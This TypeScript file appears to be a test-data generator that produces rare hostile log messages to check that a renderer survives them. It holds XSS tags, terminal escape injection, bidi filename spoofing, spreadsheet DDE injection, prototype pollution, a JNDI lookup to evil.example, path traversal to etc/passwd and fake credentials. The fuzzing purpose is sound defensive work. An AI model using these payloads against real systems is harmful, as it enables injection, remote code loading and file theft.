import { mix, unit } from "@/lib/sandbox/world/simulation/random";

/** Share of invocations that print something nasty, as real users and partners send it. */
const SHARE = 0.004;
const LONG_LINE = 100_000;

const harmful: readonly ((key: number) => string)[] = [
  () => 'note from customer: <script>alert("xss")</script><img src=x onerror=alert(1)>',
  () => "\u001b[31;1mred\u001b[0m \u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007 \u001b[2J",
  () => "uploaded invoice\u202Egnp.exe\u202C by \u2066user\u2069 zero\u200Bwidth",
  () => '=HYPERLINK("https://evil.example","open") and =cmd|\' /C calc\'!A0',
  () => "+SUM(1;1) -2+3 @import 'x' \t=1+1",
  () => '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"level":"INFO"}',
  (key) => `upstream correlation id ${strayUuid(key)}`,
  () => "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.bm90LWEtcmVhbC10b2tlbg.bm90LWEtc2lnbmF0dXJl",
  () => "using key AKIAIOSFODNN7EXAMPLE / wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
  () => "password=hunter2&card=4242424242424242&cvc=123",
  () => "null\u0000byte, tab\there, carriage\rreturn, bell\u0007",
  () => "Straße 東京都 שלום مرحبا 👩‍👩‍👧‍👦 e\u0301",
  () => "START of the partner's text, END of it; REPORT it to support",
  (key) => `%s %d %n \${jndi:ldap://evil.example/a} {{7*7}} ${"../".repeat(12)}etc/passwd ${key}`,
];

/** A message that a renderer must survive, or null nearly always. */
export function hostileMessage(key: number): string | null {
  if (unit(key, 95) >= SHARE) return null;
  if (unit(key, 96) < 0.02) return `payload ${"0123456789".repeat(LONG_LINE / 10)}`;
  return harmful[mix(key, 97) % harmful.length]?.(key) ?? null;
}

/** Looks like a request id and is none. */
function strayUuid(key: number): string {
  const word = (salt: number) => mix(key, salt).toString(16).padStart(8, "0");
  return `${word(1)}-${word(2).slice(0, 4)}-4${word(2).slice(5)}-8${word(3).slice(0, 3)}-${word(4)}${word(3).slice(4)}`;
}
